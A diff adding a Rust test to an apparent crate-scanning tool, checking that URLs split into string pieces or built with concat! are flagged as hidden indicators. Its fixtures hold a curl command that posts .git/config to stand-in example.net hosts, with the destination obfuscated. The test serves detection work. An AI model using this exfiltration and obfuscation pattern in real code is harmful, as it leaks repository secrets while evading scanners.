@@ -123,3 +123,46 @@ fn procedural_macros_are_parsed_once_the_walk_sees_anything() {
         report.findings
     );
 }
+
+/// A destination split into string pieces and joined where it is used is read the same by the
+/// token walk (`scan_with_budget`) and by the parser (`scan_package`), whether the pieces are an
+/// array joined in another module or a `concat!`; a table of whole URLs is not pieces.
+#[test]
+fn string_pieces_are_joined_by_both_front_ends() {
+    let package = |lib: &str, parts: &str| {
+        let bytes = TarballBuilder::new()
+            .file(
+                "pieces-0.1.0/Cargo.toml",
+                "[package]\nname = \"pieces\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndescription = \"x\"\nlicense = \"MIT\"\n",
+            )
+            .file("pieces-0.1.0/src/lib.rs", lib.as_bytes())
+            .file("pieces-0.1.0/src/parts.rs", parts.as_bytes())
+            .build();
+        process_tarball("pieces", "0.1.0", &bytes, &Limits::default()).unwrap()
+    };
+    let hidden = |report: &wharf_policy::scan::Report| {
+        report.signals.iter().any(|s| {
+            matches!(&s.kind, wharf_policy::scan::SignalKind::HiddenIndicator { encoding, .. } if encoding.contains("string pieces"))
+        })
+    };
+    let runs = "mod parts;\npub fn go() {\n    let _ = std::process::Command::new(\"curl\").arg(\"-d@.git/config\").arg(URL).spawn();\n}\n";
+    let joined_elsewhere = package(
+        &runs.replace("URL", "parts::PIECES.concat()"),
+        "pub(crate) const PIECES: [&str; 4] = [\"ht\", \"tp://up.exa\", \"mple.net\", \"/in\"];\n",
+    );
+    let concatenated = package(
+        &runs.replace("URL", "concat!(\"http://\", \"relay.exa\", \"mple.net/p\")"),
+        "",
+    );
+    let table = package(
+        &runs.replace("URL", "parts::MIRRORS.concat()"),
+        "pub(crate) const MIRRORS: [&str; 2] = [\"https://a.example.net/\", \"https://b.example.net/\"];\n",
+    );
+    for tarball in [&joined_elsewhere, &concatenated] {
+        let parsed = scan_package(tarball);
+        assert!(parsed.parsed >= 1 && hidden(&parsed), "{parsed:#?}");
+        assert!(hidden(&scan_with_budget(tarball, BUDGET)), "walked");
+    }
+    assert!(!hidden(&scan_package(&table)));
+    assert!(!hidden(&scan_with_budget(&table, BUDGET)));
+}
